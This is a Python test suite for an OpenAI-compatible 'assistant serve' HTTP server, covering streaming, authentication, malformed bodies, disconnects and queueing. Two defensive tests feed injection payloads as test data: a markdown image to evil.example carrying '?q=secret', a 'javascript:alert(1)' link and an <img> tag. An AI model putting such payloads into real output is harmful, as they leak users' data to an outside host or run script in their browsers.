"""`assistant serve` driven over real HTTP on 127.0.0.1: the official `openai` client (streaming and not), simonw/llm
as a second client, auth on a non-local bind, malformed bodies, a client that leaves mid-stream, the queue, and
parallel answers with `--backend openai` against a scripted model server (tests/scripted_openai.py).

The server is the real app on uvicorn in a thread; the assistants behind it answer with a scripted model
(conftest.FakeModel), a slow one that counts its tokens, or, in one slow test, the bundled SmolLM2 in a real
`assistant serve` process.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import openai
import pytest
import uvicorn
from typer.testing import CliRunner

from assistant.cli import app as cli_app
from assistant.errors import BadInput, MissingExtra
from assistant.events import Answer, Source
from assistant.models.base import Completion, GenerationOptions, Message, Usage
from assistant.models.toolcalls import stream_with_tools
from assistant.prompting import load_prompt
from assistant.runner import Assistant
from assistant.serve import check_bind, protocol
from assistant.serve.app import create_app
from assistant.serve.workers import Pool
from assistant.settings import load_settings
from tests.conftest import FakeModel
from tests.scripted_openai import ScriptedServer

QUESTION = "What is the capital of Colombia?"


@dataclass
class SlowModel(FakeModel):
    """Streams `words` tokens, `delay` seconds apart, counting them; after the first two it waits for `gate`, when
    given; `stopped` is set when its stream ends or is closed."""

    delay: float = 0.02
    words: int = 200  # within the runaway limit of the default max_tokens: only a disconnect stops it early
    gate: threading.Event | None = None
    produced: int = 0
    stopped: threading.Event = field(default_factory=threading.Event)

    def stream(self, messages: list[Message], options: GenerationOptions) -> Iterator[str | Completion]:
        self.history.append((messages, options))

        def raw() -> Iterator[str | Completion]:
            try:
                for i in range(self.words):
                    if self.gate and i >= 2:
                        assert self.gate.wait(30)
                    time.sleep(self.delay)
                    self.produced += 1
                    yield f" word{i}"
                yield Completion("", usage=Usage(10, self.words))
            finally:
                self.stopped.set()

        return stream_with_tools(raw(), options)  # as the real backends: closing it closes raw()


def assistant_with(loaded: Any, index: Path | None = None, **settings: Any) -> Assistant:
    """An assistant over the `loaded` model (None: the one the settings name), searching the test index (or
    closed-book), English route."""
    search = {"search": "local", "index": str(index)} if index else {"search": "none"}
    return Assistant.from_settings(load_settings(lang="en", **search, **settings), model=loaded)


@contextlib.contextmanager
def serving(assistants: list[Assistant], key: str | None = None, host: str = "127.0.0.1") -> Iterator[str]:
    """The app over `assistants` on uvicorn in a thread; yields its root URL (on 127.0.0.1)."""
    pool = Pool(assistants)
    config = uvicorn.Config(create_app(pool, key, keepalive=0.2), host=host, port=0, log_config=None)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.02)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)
        pool.close()


def client(url: str, key: str = "unused") -> openai.OpenAI:
    return openai.OpenAI(base_url=f"{url}/v1", api_key=key, max_retries=0, timeout=30)


def health(url: str) -> dict[str, Any]:
    return httpx.get(f"{url}/health").json()


def wait_for(condition: Any, seconds: float = 10) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.02)


# --- the two clients ------------------------------------------------------------------------------------------


def test_openai_client_gets_the_cited_answer_its_sources_and_usage(fake_model: FakeModel, index: Path) -> None:
    fake_model.enqueue("Bogotá [1]")
    with serving([assistant_with(fake_model, index)]) as url:
        reply = client(url).chat.completions.create(
            model="search-assistant", messages=[{"role": "user", "content": QUESTION}]
        )
    content = reply.choices[0].message.content or ""
    answer, _, sources = content.partition("\n\n**Sources**\n\n")
    assert answer == "Bogotá [1]"
    assert sources.startswith("- [1] Bogotá (triviaqa-"), content
    extra = (reply.model_extra or {})["search_assistant"]
    assert extra["grounded"] is True and extra["sources"][0]["n"] == 1
    assert extra["steps"][0]["tool"] == "web_search" and extra["route"]["language"] == "en"
    assert reply.usage is not None
    assert reply.usage.prompt_tokens == extra["usage"]["prompt_tokens"] > 0
    assert reply.usage.total_tokens == reply.usage.prompt_tokens + reply.usage.completion_tokens
    messages = fake_model.history[0][0]
    assert messages[-1].role == "user" and QUESTION in messages[-1].content


def test_streamed_reply_is_the_plain_reply_in_pieces(fake_model: FakeModel, index: Path) -> None:
    fake_model.enqueue("Bogotá [1]", "Bogotá [1]")
    messages: Any = [{"role": "user", "content": QUESTION}]
    with serving([assistant_with(fake_model, index)]) as url:
        plain = client(url).chat.completions.create(model="search-assistant", messages=messages)
        chunks = list(
            client(url).chat.completions.create(
                model="search-assistant", messages=messages, stream=True, stream_options={"include_usage": True}
            )
        )
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert text == plain.choices[0].message.content
    assert len([c for c in chunks if c.choices and c.choices[0].delta.content]) > 2  # it did stream
    finish = next(c for c in chunks if c.choices and c.choices[0].finish_reason)
    assert finish.choices[0].finish_reason == "stop"
    assert (finish.model_extra or {})["search_assistant"]["sources"][0]["title"] == "Bogotá"
    assert chunks[-1].choices == [] and chunks[-1].usage == plain.usage  # include_usage: OpenAI's last chunk


def test_llm_cli_uses_it_as_an_openai_compatible_model(fake_model: FakeModel, index: Path, tmp_path: Path) -> None:
    fake_model.enqueue("Bogotá [1]")
    with serving([assistant_with(fake_model, index)]) as url:
        (tmp_path / "extra-openai-models.yaml").write_text(
            f"- model_id: search-assistant\n  model_name: search-assistant\n  api_base: {url}/v1\n"
        )
        env = {**os.environ, "LLM_USER_PATH": str(tmp_path), "OPENAI_API_KEY": "unused"}
        done = subprocess.run(
            [sys.executable, "-m", "llm", "-m", "search-assistant", QUESTION],
            capture_output=True,
            text=True,
            env=env,
            timeout=120,
        )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("Bogotá [1]") and "**Sources**" in done.stdout, done.stdout


def test_earlier_turns_and_the_clients_system_message_reach_the_prompt(fake_model: FakeModel, index: Path) -> None:
    fake_model.enqueue("Bogotá [1]", "1538 [1]")
    with serving([assistant_with(fake_model, index)]) as url:
        first = client(url).chat.completions.create(
            model="search-assistant", messages=[{"role": "user", "content": QUESTION}]
        )
        earlier = first.choices[0].message.content or ""
        client(url).chat.completions.create(
            model="search-assistant",
            messages=[
                {"role": "system", "content": "Reply in the style of a pirate."},
                {"role": "user", "content": QUESTION},
                {"role": "assistant", "content": earlier},
                {"role": "user", "content": "and when was it founded?"},
            ],
        )
    messages = fake_model.history[1][0]
    system = messages[0].content
    assert system.startswith(load_prompt("search"))  # the assistant's own rules come first ...
    assert system.index(load_prompt("instructions")) < system.index("Reply in the style of a pirate.")  # ... then
    assert [(m.role, m.content) for m in messages[1:3]] == [("user", QUESTION), ("assistant", "Bogotá")]
    assert "Sources" not in " ".join(m.content for m in messages[1:-1])  # the sources list this server added
    assert "and when was it founded?" in messages[-1].content


def test_the_closed_model_answers_without_searching(fake_model: FakeModel, index: Path) -> None:
    fake_model.enqueue("Bogotá")
    with serving([assistant_with(fake_model, index)]) as url:
        reply = client(url).chat.completions.create(
            model="search-assistant-closed", messages=[{"role": "user", "content": QUESTION}]
        )
        listed = [m.id for m in client(url).models.list()]
    assert listed == ["search-assistant", "search-assistant-closed"]
    assert reply.choices[0].message.content == "Bogotá"
    assert (reply.model_extra or {})["search_assistant"]["steps"] == []
    assert fake_model.history[0][0][0].content == load_prompt("closed")


# --- safety -----------------------------------------------------------------------------------------------------


def test_a_non_local_bind_needs_a_key_and_then_checks_it(fake_model: FakeModel) -> None:
    with pytest.raises(BadInput, match="ASSISTANT_SERVER_KEY"):
        check_bind("0.0.0.0", None)
    check_bind("127.0.0.1", None)
    check_bind("::1", None)
    result = CliRunner().invoke(cli_app, ["serve", "--host", "0.0.0.0", "--search", "none"])
    assert result.exit_code == 2, result.output
    assert "server key" in result.output
    fake_model.enqueue("Bogotá")
    with serving([assistant_with(fake_model)], key="s3cret", host="0.0.0.0") as url:
        for key in ("wrong", ""):
            with pytest.raises(openai.AuthenticationError, match="server key"):
                client(url, key or "x").models.list()
        assert httpx.post(f"{url}/v1/chat/completions", json={}).status_code == 401  # no header at all
        assert health(url)["status"] == "ok"  # a load balancer's probe needs no key
        reply = client(url, "s3cret").chat.completions.create(
            model="search-assistant-closed", messages=[{"role": "user", "content": QUESTION}]
        )
    assert reply.choices[0].message.content == "Bogotá"


def _body(**fields: Any) -> bytes:
    """A request body: a question to the search model, with `fields` replaced."""
    return json.dumps({"model": "search-assistant", "messages": [{"role": "user", "content": "x"}], **fields}).encode()


@pytest.mark.parametrize(
    ("body", "status", "says"),
    [
        (b"{not json", 400, "not valid JSON"),
        (b"[1, 2]", 400, "bad request"),
        (_body(messages=[]), 400, "messages"),
        (json.dumps({"messages": [{"role": "user", "content": "hi"}]}).encode(), 400, "model"),
        (_body(model="gpt-4"), 404, "unknown model"),
        (_body(messages=[{"role": "wizard", "content": "x"}]), 400, "role"),
        (_body(messages=[{"role": "assistant", "content": "x"}]), 400, "last message"),
        (_body(messages=[{"role": "user", "content": "   "}]), 400, "last message"),
        (_body(n=2), 400, "n"),
        (_body(max_tokens=0), 400, "max_tokens"),
        (_body(messages=[{"role": "user", "content": [{"type": "image_url"}]}]), 400, "image_url"),
        (_body(messages=[{"role": "system", "content": "y" * 5000}, {"role": "user", "content": "x"}]), 400, "system"),
        (_body(messages=[{"role": "user", "content": "x" * 1_100_000}]), 413, "larger"),
    ],
)
def test_malformed_requests_get_a_client_error_in_openais_shape(
    fake_model: FakeModel, body: bytes, status: int, says: str
) -> None:
    with serving([assistant_with(fake_model)]) as url:
        response = httpx.post(f"{url}/v1/chat/completions", content=body, headers={"Content-Type": "application/json"})
        after = health(url)
    assert response.status_code == status, response.text
    assert says in response.json()["error"]["message"]
    assert after == {"status": "ok", "queue": 0, "running": 0, "slots": 1}
    assert fake_model.history == []  # nothing reached the model


def test_max_tokens_lowers_the_servers_cap_and_never_raises_it(fake_model: FakeModel) -> None:
    fake_model.enqueue("Bogotá", "Bogotá")
    with serving([assistant_with(fake_model, max_tokens=64)]) as url:
        for asked in (20, 5000):
            client(url).chat.completions.create(
                model="search-assistant-closed", max_tokens=asked, messages=[{"role": "user", "content": QUESTION}]
            )
    assert [options.max_tokens for _, options in fake_model.history] == [20, 64]


def test_serve_without_its_extra_says_which_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.serve import serve

    monkeypatch.setitem(sys.modules, "uvicorn", None)  # an import of it now raises ImportError
    with pytest.raises(MissingExtra, match=r"search-assistant\[serve\]"):
        serve(load_settings(search="none"), host="127.0.0.1", port=1, key=None, slots=1)


# --- disconnects and the queue ---------------------------------------------------------------------------------


def _open_stream(http: httpx.Client, url: str, model: str = "search-assistant-closed") -> Any:
    body = {"model": model, "stream": True, "messages": [{"role": "user", "content": QUESTION}]}
    return http.stream("POST", f"{url}/v1/chat/completions", json=body)


def _read_tokens(lines: Iterator[str], count: int) -> None:
    """Read a stream's lines up to its `count`th word token."""
    seen = 0
    for line in lines:
        if '"content": " word' in line:
            seen += 1
            if seen == count:
                return


# Tokens a generation may still make after its client left: the disconnect is an event, but on a loaded machine
# (two cores busy with a model) the server's thread took 13 tokens of 20 ms to see it; 200 are asked for.
STOP_MARGIN = 50


def test_a_client_that_leaves_mid_stream_stops_its_generation() -> None:
    model = SlowModel()
    with serving([assistant_with(model)]) as url, httpx.Client(timeout=30) as http:
        with _open_stream(http, url) as response:
            _read_tokens(response.iter_lines(), 5)
        left_at = model.produced  # the connection is closed here
        assert model.stopped.wait(5), "the generation went on after the client left"
        wait_for(lambda: health(url)["running"] == 0)
        assert health(url)["queue"] == 0
    # stopped long before the 200 words it would have made (by a margin a machine busy with other work keeps)
    assert model.produced <= left_at + STOP_MARGIN < model.words


def test_a_plain_request_whose_client_leaves_stops_too() -> None:
    model = SlowModel()
    with serving([assistant_with(model)]) as url:
        with socket.create_connection(("127.0.0.1", int(url.rsplit(":", 1)[1]))) as raw:
            body = json.dumps({"model": "search-assistant-closed", "messages": [{"role": "user", "content": QUESTION}]})
            raw.sendall(
                f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}".encode()
            )
            wait_for(lambda: model.produced >= 5)
        left_at = model.produced
        assert model.stopped.wait(5)
        wait_for(lambda: health(url)["running"] == 0)
    assert model.produced <= left_at + STOP_MARGIN < model.words


def test_requests_wait_in_line_for_a_local_model_and_leave_it_when_they_go() -> None:
    gate = threading.Event()  # the first answer stops after two tokens until the test opens it
    model = SlowModel(delay=0.005, words=60, gate=gate)
    with serving([assistant_with(model)]) as url, httpx.Client(timeout=30) as http:
        with _open_stream(http, url) as first:
            lines = first.iter_lines()
            _read_tokens(lines, 2)
            waiting: dict[str, Any] = {}
            second = threading.Thread(
                target=lambda: waiting.update(
                    reply=client(url).chat.completions.create(
                        model="search-assistant-closed", messages=[{"role": "user", "content": QUESTION}]
                    )
                )
            )
            second.start()
            wait_for(lambda: health(url)["queue"] == 1)
            with _open_stream(http, url) as third:  # in line behind the second, then gone
                wait_for(lambda: health(url)["queue"] == 2)
                for _ in third.iter_lines():
                    break  # the role chunk: the stream is open
            wait_for(lambda: health(url)["queue"] == 1)  # the third left the line
            assert health(url)["running"] == 1
            gate.set()
            for _ in lines:
                pass  # the first answer to its end
        second.join(30)
        wait_for(lambda: health(url) == {"status": "ok", "queue": 0, "running": 0, "slots": 1})
    assert "word59" in waiting["reply"].choices[0].message.content
    assert len(model.history) == 2  # the third never reached the model


# --- parallel answers with --backend openai -------------------------------------------------------------------


def test_openai_backend_answers_in_parallel_up_to_the_limit(index: Path) -> None:
    with ScriptedServer(delay=0.6).running() as upstream:
        settings: dict[str, Any] = {"backend": "openai", "base_url": upstream.url, "model": "scripted"}
        assistants = [assistant_with(None, index, **settings) for _ in range(3)]
        with serving(assistants) as url:
            replies: list[Any] = []
            threads = [
                threading.Thread(
                    target=lambda: replies.append(
                        client(url).chat.completions.create(
                            model="search-assistant", messages=[{"role": "user", "content": QUESTION}]
                        )
                    )
                )
                for _ in range(5)
            ]
            for t in threads:
                t.start()
            for t in threads:
                t.join(30)
    assert len(replies) == 5 and all("Bogotá [1]" in (r.choices[0].message.content or "") for r in replies)
    assert upstream.most == 3  # three slots, all busy at once; never a fourth


def test_a_stream_cut_mid_answer_closes_the_upstream_connection(index: Path) -> None:
    reply = " ".join(f"w{i}" for i in range(200))
    with ScriptedServer(delay=0.0, reply=reply, token_delay=0.02).running() as upstream:
        settings: dict[str, Any] = {"backend": "openai", "base_url": upstream.url, "model": "scripted"}
        with serving([assistant_with(None, **settings)]) as url, httpx.Client(timeout=30) as http:
            with _open_stream(http, url) as response:
                for line in response.iter_lines():
                    if '"content": " w5"' in line:
                        break
            wait_for(lambda: upstream.cut == 1 and upstream.active == 0)
            wait_for(lambda: health(url)["running"] == 0)
    assert upstream.answered == 0


def test_a_model_server_that_is_down_is_a_500_or_an_error_event_saying_so(index: Path) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        nowhere = f"http://127.0.0.1:{s.getsockname()[1]}/v1"  # bound, then closed: nothing listens
    settings: dict[str, Any] = {"backend": "openai", "base_url": nowhere, "model": "scripted"}
    with serving([assistant_with(None, index, **settings)]) as url:
        with pytest.raises(openai.InternalServerError, match="cannot connect"):
            client(url).chat.completions.create(
                model="search-assistant", messages=[{"role": "user", "content": QUESTION}]
            )
        with pytest.raises(openai.APIError, match="cannot connect"):
            list(
                client(url).chat.completions.create(
                    model="search-assistant", messages=[{"role": "user", "content": QUESTION}], stream=True
                )
            )
        wait_for(lambda: health(url) == {"status": "ok", "queue": 0, "running": 0, "slots": 1})


# --- the reply's text, read back ------------------------------------------------------------------------------


def _answer(text: str, sources: list[Source]) -> Answer:
    return Answer(QUESTION, text, text, sources, "m", [], {"prompt_tokens": 1, "completion_tokens": 1}, {})


def test_earlier_answer_reads_back_what_the_server_wrote() -> None:
    sources = [Source(1, "a", "Bogotá", "https://example.org/Bogot%C3%A1 (city)")]
    final = _answer("Bogotá [1]", sources)
    assert protocol.earlier_answer(protocol.reply_text(final)) == "Bogotá [1]"
    streamed = "Paris" + protocol.searching_again("capital of colombia") + "Bogota"
    streamed += protocol.checked_answer(final, "Bogota") + protocol.sources_markdown(sources)
    assert protocol.earlier_answer(streamed) == "Bogotá [1]"
    added = "Bogotá" + protocol.checked_answer(final, "Bogotá")  # only the citation was added: no repeat
    assert added == "Bogotá [1]"
    assert protocol.earlier_answer("An answer from another model.\n\n**Sources** are below") == (
        "An answer from another model.\n\n**Sources** are below"
    )


def test_a_page_title_cannot_write_markdown_into_the_sources_list() -> None:
    evil = Source(1, "x", "![pixel](https://evil.example/?q=secret) *hi*", "javascript:alert(1)")
    listed = protocol.sources_markdown([evil, Source(2, "y", "Ok", "https://example.org/a b")])
    assert "![" not in listed and "](https://evil" not in listed and "javascript:" not in listed
    assert "- [2] [Ok](https://example.org/a%20b)" in listed
    url = "https://example.org/a)\n\n![pixel](https://evil.example/?q=secret)"  # a URL that ends the link itself
    listed = protocol.sources_markdown([Source(1, "x", "Ok", url)])
    assert listed.count("\n") == 4, "the heading's lines only: the URL's line breaks are encoded"
    assert "(https://example.org/a%29%0A%0A%21%5Bpixel%5D" in listed


def test_the_models_text_cannot_make_the_window_load_an_image_or_html() -> None:
    said = 'Bogotá [1] ![pixel](https://evil.example/?q=secret) <img src="https://evil.example/x"> \\<b>'
    plain = protocol.reply_text(_answer(said, []))
    defuser = protocol.Defuser()
    pieces = ["Bogotá [1] !", "[pixel](https://evil.example/?q=secret) <", 'img src="https://evil.example/x"> \\']
    pieces.append("<b>")
    streamed = "".join(defuser.feed(p) for p in pieces) + defuser.flush()
    for text in (plain, streamed):
        assert "![" not in text and not re.search(r"(?<!\\)(\\\\)*<", text), text  # no image, no unescaped "<"
        assert text.startswith("Bogotá [1] !\\[pixel]"), text  # shown as written, citation intact
    assert streamed == plain
    assert protocol.Defuser().feed("Wow!") == "Wow" and protocol.defused("a*b* [c](d)") == "a*b* [c](d)"


# --- the real model, the real command ---------------------------------------------------------------------------


@pytest.mark.slow
def test_assistant_serve_answers_with_the_bundled_model(index: Path, tmp_path: Path) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    command = [sys.executable, "-m", "assistant", "serve", "--model", "smollm2-135m", "--search", "local"]
    command += ["--index", str(index), "--port", str(port), "--threads", "2", "--lang", "en"]
    env = {**os.environ, "OMP_WAIT_POLICY": "PASSIVE"}
    with subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env=env) as proc:
        try:
            url = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + 90
            while True:
                assert proc.poll() is None, proc.stderr.read() if proc.stderr else ""
                assert time.monotonic() < deadline, "assistant serve did not start"
                with contextlib.suppress(httpx.TransportError):
                    if httpx.get(f"{url}/health").status_code == 200:
                        break
                time.sleep(0.2)
            chunks = list(
                client(url).chat.completions.create(
                    model="search-assistant", messages=[{"role": "user", "content": QUESTION}], stream=True
                )
            )
        finally:
            proc.terminate()
            proc.wait(20)
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    extra = next((c.model_extra or {})["search_assistant"] for c in chunks if c.choices and c.choices[0].finish_reason)
    assert extra["model"] == "smollm2-135m" and extra["steps"][0]["tool"] == "web_search"
    assert text.strip() and ("**Sources**" in text) == bool(extra["sources"])


def test_an_unexpected_failure_tells_the_client_its_kind_and_keeps_its_message_in_the_log() -> None:
    from assistant.serve.app import _api_error

    error = _api_error(FileNotFoundError(2, "No such file", "/home/someone/private/model.gguf"))
    assert error.status == 500 and "FileNotFoundError" in str(error) and "/home/someone" not in str(error)
